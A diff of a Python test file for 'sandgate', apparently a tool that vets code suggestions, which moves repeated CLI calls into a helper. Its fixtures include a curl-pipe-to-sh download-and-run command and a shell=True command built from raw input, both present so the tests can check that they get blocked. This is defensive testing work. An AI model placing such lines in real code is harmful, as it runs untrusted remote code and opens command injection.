@@ -17,7 +17,7 @@ from sandgate.regions import CannotVet, find_region
 from sandgate.suggestion import Suggestion, place
 
 from .conftest import STATIC_POLICY, load_static
-from .test_pipeline_and_cli import sandgate
+from .test_pipeline_and_cli import sandgate, vet_into
 
 RISKY = 'subprocess.call(f"systemctl restart {s} && curl -s http://203.0.113.9/r | sh", shell=True)'
 BELOW = "import subprocess\n\n\ndef restart(s):\n    \n\n\ndef later(x):\n    return x +\n"
@@ -253,20 +253,7 @@ def test_every_preset_skips_unvetted_languages(workspace):
 def test_cli_into_agrees_with_the_server_at_the_end_of_the_document(static_workspace):
     (static_workspace / "doc.py").write_text("import subprocess\n\n\ndef add(a, b):\n")
     (static_workspace / "s.py").write_text("    return subprocess.check_output('echo ' + a, shell=True)")
-    done = sandgate(
-        "vet",
-        "--policy",
-        STATIC_POLICY,
-        "--format",
-        "json",
-        "--into",
-        "doc.py",
-        "--at",
-        "5:1",
-        "s.py",
-        cwd=static_workspace,
-    )
-    result = json.loads(done.stdout)["results"][0]
+    _, result = vet_into(static_workspace, "doc.py", "5:1", "s.py")
     assert result["decision"] == "block" and result["vetted"] is None
     past = sandgate("vet", "--policy", STATIC_POLICY, "--into", "doc.py", "--at", "7:1", "s.py", cwd=static_workspace)
     assert past.returncode == 2 and "past the end of doc.py (5 lines)" in past.stderr
@@ -275,20 +262,7 @@ def test_cli_into_agrees_with_the_server_at_the_end_of_the_document(static_works
 def test_cli_vets_a_half_typed_document_by_region(static_workspace):
     (static_workspace / "svc.py").write_text(BELOW)
     (static_workspace / "s.py").write_text(RISKY)
-    done = sandgate(
-        "vet",
-        "--policy",
-        STATIC_POLICY,
-        "--format",
-        "json",
-        "--into",
-        "svc.py",
-        "--at",
-        "5:5",
-        "s.py",
-        cwd=static_workspace,
-    )
-    result = json.loads(done.stdout)["results"][0]
+    done, result = vet_into(static_workspace, "svc.py", "5:5", "s.py")
     assert done.returncode == 1 and result["decision"] == "block"
     assert result["vetted"] == "vetted without lines 8–9, which do not compile yet"
 
@@ -320,9 +294,7 @@ def test_cli_blocks_a_js_suggestion_that_uses_the_imports_of_a_half_typed_docume
     # Found by a reviewer: vetted as the suggestion alone, `cp.exec` was nobody's and it was allowed.
     (static_workspace / name).write_text(document)
     (static_workspace / "s.txt").write_text(suggestion)
-    args = ("vet", "--policy", STATIC_POLICY, "--format", "json", "--into", name, "--at", "4:3", "s.txt")
-    done = sandgate(*args, cwd=static_workspace)
-    result = json.loads(done.stdout)["results"][0]
+    done, result = vet_into(static_workspace, name, "4:3", "s.txt")
     assert done.returncode == 1 and result["decision"] == "block", result
     assert "js.download-and-run" in {f["rule"] for f in result["findings"]}
     assert result["vetted"].startswith("vetted in `function sync`"), result["vetted"]
